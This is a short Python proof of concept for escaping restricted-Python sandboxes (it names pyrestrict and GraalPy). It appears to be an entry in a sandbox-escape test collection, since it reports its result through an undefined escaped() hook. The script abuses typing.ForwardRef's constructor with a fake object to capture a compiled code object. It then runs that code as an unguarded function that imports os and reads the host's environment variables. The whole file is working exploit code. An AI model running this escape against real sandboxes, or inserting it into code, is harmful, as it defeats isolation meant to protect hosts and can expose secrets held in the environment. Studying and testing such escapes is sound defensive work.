# technique: typing compiles annotations that are text and stores the code object on self, which is the guest's own object with a __setattr__
# source: reading pyrestrict and GraalPy's library
# goal: run text of the guest's choice with no guard in it
# impact: exec
import typing
FR = type(typing.List['x'].__args__[0])
got = []
class F:
    def __setattr__(self, n, v):
        got.append((n, v))
FR.__init__(F(), '__import__("os").environ')
for n, v in got:
    if n == '__forward_code__':
        f = type(lambda: 0)(v, {})
        escaped(f())
